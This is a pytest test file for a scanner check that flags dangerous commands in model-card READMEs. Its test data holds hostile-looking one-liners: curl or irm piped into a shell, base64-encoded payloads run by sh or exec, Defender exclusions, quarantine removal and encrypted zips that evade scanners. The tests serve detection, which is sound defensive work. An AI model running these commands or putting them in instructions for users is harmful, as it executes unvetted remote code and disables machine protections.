from __future__ import annotations

import json
import struct

import pytest

from hilt.checks.inspect.card_commands import CHECK
from hilt.core.finding import Finding, Severity
from repositories import findings_in

FRONT = "---\nlicense: mit\n---\n# A model\n\n"
_HEADER = json.dumps({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
SAFETENSORS = struct.pack("<Q", len(_HEADER)) + _HEADER + bytes(4)


def card(text: str, **files: bytes) -> list[Finding]:
    others = {name.replace("__", "."): data for name, data in files.items()}
    return findings_in(CHECK, {"README.md": (FRONT + text).encode(), **others})


def block(text: str, language: str = "python") -> str:
    return f"Use it like this:\n```{language}\n{text}\n```\n"


@pytest.mark.parametrize(
    ("text", "words", "severity"),
    [
        ("curl -s https://example.org/x.sh | bash", "runs what it fetches", Severity.MEDIUM),
        ("curl -s http://example.org/x.sh | sudo bash", "runs what it fetches", Severity.HIGH),
        ("wget -qO- https://example.org/x | python3 -", "runs what it fetches", Severity.MEDIUM),
        ("bash <(curl -s https://example.org/x.sh)", "runs what it fetches", Severity.MEDIUM),
        ('sh -c "$(curl -fsSL https://example.org/x.sh)"', "runs what it fetches", Severity.MEDIUM),
        ("curl -fsSL https://ollama.com/install.sh | sh", "runs what it fetches", Severity.LOW),
        ("iex (iwr https://example.org/x.ps1)", "runs what it fetches", Severity.MEDIUM),
        ("irm https://example.org/x.ps1 | iex", "runs what it fetches", Severity.MEDIUM),
        ("echo ZWNobyBoaWx0 | base64 -d | sh", "nobody can read", Severity.HIGH),
        ("powershell -w hidden -enc ZQBjAGgAbwAgAGgAaQBsAHQA", "nobody can read", Severity.HIGH),
        ("Add-MpPreference -ExclusionPath C:\\\\", "protection of the machine off", Severity.HIGH),
        ("xattr -d com.apple.quarantine app", "mark of a download away", Severity.HIGH),
        ("unzip -P hilt model.zip", "no scanner can look into", Severity.HIGH),
        ("wget https://example.org/run\nchmod +x ./run\n./run", "makes a program of what it fetched", Severity.MEDIUM),
        ("wget http://203.0.113.5/model.bin", "a machine that has no name", Severity.MEDIUM),
        ("pip install git+https://github.com/acme/x", "code of another repository", Severity.LOW),
        ("pip install --trusted-host example.org x", "whatever its certificate says", Severity.MEDIUM),
        ("pip install -i http://example.org/simple x", "without encryption", Severity.MEDIUM),
    ],
)
def test_a_command_that_a_reader_would_copy_is_told(text: str, words: str, severity: Severity) -> None:
    for written in (block(text, "bash"), f"Run `{text}`.\n" if "\n" not in text else block(text, "")):
        (finding,) = card(written)
        assert (finding.severity, words in finding.message) == (severity, True), finding.message


def test_the_line_is_that_of_the_file() -> None:
    (finding,) = card(block("curl -s https://example.org/x.sh | bash", "bash"))
    assert finding.where.line == 8
    (finding,) = card(block("import os\nos.system('echo hilt')"))
    assert finding.where.line == 9


@pytest.mark.parametrize(
    ("text", "words", "severity"),
    [
        ("import os\nos.system('echo hilt')", "runs commands", Severity.LOW),
        ("import base64\nexec(base64.b64decode('cGFzcw=='))", "nobody can read", Severity.HIGH),
        ("m = AutoModel.from_pretrained('x', trust_remote_code=True)", "code that no config here names", Severity.LOW),
        (">>> m = AutoModel.from_pretrained('x', trust_remote_code=True)", "no config here names", Severity.LOW),
        ("!pip install x\nm = f(trust_remote_code=True)", "no config here names", Severity.LOW),
    ],
)
def test_what_python_examples_do_is_told(text: str, words: str, severity: Severity) -> None:
    seen = card(block(text))
    assert [finding.severity for finding in seen if words in finding.message] == [severity], seen


def test_which_code_would_be_trusted_is_named() -> None:
    config = json.dumps({"auto_map": {"AutoModel": "modeling_own.Own"}}).encode()
    (finding,) = card(block("AutoModel.from_pretrained('x', trust_remote_code=True)"), config__json=config)
    assert "has the loader run modeling_own.py" in finding.message


@pytest.mark.parametrize("call", ["torch.load('m.bin', weights_only=False)", "joblib.load('m.joblib')"])
def test_a_pickle_is_told_where_safetensors_are_there(call: str) -> None:
    text = block(f"import torch, joblib\nx = {call}")
    assert card(text) == []
    (finding,) = card(text, model__safetensors=SAFETENSORS)
    assert "model.safetensors needs none" in finding.message


@pytest.mark.parametrize(
    "text",
    [
        block("pip install -U sentence-transformers 'torch>=2' && python x.py", "bash"),
        block("from transformers import AutoModel\nmodel = AutoModel.from_pretrained('acme/x')\nmodel.eval()"),
        block("import torch\ntorch.load('x.pt', weights_only=True)"),
        block('curl http://localhost:8000/v1/completions -d \'{"prompt": "x"}\' | jq .', "bash"),
        block("wget https://example.org/model.gguf\n./llama-cli -m model.gguf", "sh"),
        block("chmod +x ./llama-cli", "sh"),
        block("curl http://127.0.0.1:8080/health", "sh"),
        "The shell and a pipe | of words: curl up with a book.\n",
        "```\nnot closed",
    ],
)
def test_honest_cards_are_quiet(text: str) -> None:
    assert card(text) == []


def test_a_card_without_front_matter_is_read_too_and_other_texts_are_not() -> None:
    bad = b"curl -s https://example.org/x.sh | bash\n"
    assert len(findings_in(CHECK, {"README.md": bad})) == 1
    assert findings_in(CHECK, {"vocab.txt": bad}) == []
